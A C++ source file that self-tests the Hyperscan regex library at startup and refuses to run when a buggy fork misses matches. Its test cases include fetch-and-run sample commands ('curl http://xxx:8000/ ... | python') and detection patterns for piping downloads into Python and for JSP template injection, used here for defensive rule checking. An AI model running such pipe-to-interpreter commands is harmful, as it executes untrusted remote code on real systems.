// The known failing cases of one fork of the matching library (LIBRARIES.md) and the codes that the
// words database relies on. A wrong answer means that rules would miss silently: refuse to start.
#include <hs/hs.h>

#include <memory>
#include <string>
#include <vector>

#include "core/text/utf8.h"
#include "rules/book.h"
#include "rules/matcher.h"

namespace rules {

namespace {

struct Case {
  const char* name;
  unsigned flags;
  std::vector<const char*> patterns;  // the first one must match
  std::string text;
};

std::vector<Case> cases() {
  return {
      {"pipe to python",
       HS_FLAG_DOTALL,
       {"curl.*\\|\\s*python"},
       "curl http://xxx:8000/ 2>&1 | python"},
      {"pipe to python, longer",
       HS_FLAG_DOTALL,
       {"curl.*\\|\\s*python"},
       "curl http://vader:8080/ 2>&1 | python"},
      {"anchored among seven",
       HS_FLAG_CASELESS,
       {"^.*TAPIOCA.*EX.*$", "^.*BOBA.*GUY.*$", "^.*PAYPAL.*JACQUES.*MARI.*$", "^GUCCI FRANCE.*$",
        "^PAYPAL \\*YVESSAINTL.*$", "^DD.*FIREHO 855-973-1040$", "^.*XING.*FU.*TAN.*$"},
       "TAPIOCA HOUSE TUXTLA GUTIER MEX"},
      {"tag among three",
       0,
       {"<%[\\s\\S]+%>",
        "<[^<>]+:(include|forward|invoke|doBody|getProperty|setProperty|useBean|plugin|element|"
        "attribute|body|fallback|params|param|output|root)",
        "[\\$#]{[\\s\\S]+\\([\\s\\S]*\\)[\\s\\S]*}"},
       "<%out.print();int a%>"},
      {"start of a Chinese expression",
       HS_FLAG_UTF8 | HS_FLAG_SOM_LEFTMOST,
       {"还有.{0,4}(天|个月)就?过期"},
       "看，还有十二个月过期"},
  };
}

struct Found {
  bool first = false;
  unsigned long long from = 0;
};

extern "C" int on_case(unsigned id, unsigned long long from, unsigned long long, unsigned,
                       void* context) noexcept {
  if (id == 0) *static_cast<Found*>(context) = {true, from};
  return 0;
}

Found run(const Case& c) {
  const auto n = static_cast<unsigned>(c.patterns.size());
  std::vector<unsigned> flags(n, c.flags), ids;
  for (unsigned i = 0; i < n; ++i) ids.push_back(i);
  hs_database_t* database = nullptr;
  hs_compile_error_t* error = nullptr;
  Found found;
  if (hs_compile_multi(c.patterns.data(), flags.data(), ids.data(), n, HS_MODE_BLOCK, nullptr,
                       &database, &error) != HS_SUCCESS) {
    hs_free_compile_error(error);
    return found;
  }
  hs_scratch_t* scratch = nullptr;
  if (hs_alloc_scratch(database, &scratch) == HS_SUCCESS)
    hs_scan(database, c.text.data(), static_cast<unsigned>(c.text.size()), 0, scratch, on_case,
            &found);
  hs_free_scratch(scratch);
  hs_free_database(database);
  return found;
}

// Words that share beginnings, ends and bytes, through our own codes.
bool words_are_found() {
  const std::vector<std::u32string> words = {U"过期",   U"期过",  U"快过期",
                                             U"过期了", U"12315", U"𠮷野家"};
  CompileError error;
  const auto matcher = Matcher::create(words, {}, error);
  if (matcher == nullptr) return false;
  Scanner scanner(matcher);
  core::text::Folded text;
  core::text::fold("这箱快过期了，打12315！𠮷野家", text);
  std::vector<Match> matches;
  scanner.scan(text, matches);
  return matches == std::vector<Match>{{2, 5, 2}, {3, 5, 0}, {3, 6, 3}, {8, 13, 4}, {14, 17, 5}};
}

}  // namespace

core::Result<core::Unit> matcher_self_test() {
  const auto wrong = [](const std::string& name) {
    return core::Error{core::Code::BadSettings, "the matching library " + matcher_version() +
                                                    " gives a wrong answer (" + name +
                                                    "): install libhyperscan5, not libvectorscan5"};
  };
  if (hs_valid_platform() != HS_SUCCESS) return wrong("this processor lacks SSSE3");
  for (const Case& c : cases()) {
    const Found found = run(c);
    const bool checks_start = (c.flags & HS_FLAG_SOM_LEFTMOST) != 0;
    if (!found.first || (checks_start && found.from != std::string_view("看，").size()))
      return wrong(c.name);
  }
  if (!words_are_found()) return wrong("words in two-byte codes");
  return core::Unit{};
}

std::string matcher_version() { return hs_version(); }

}  // namespace rules
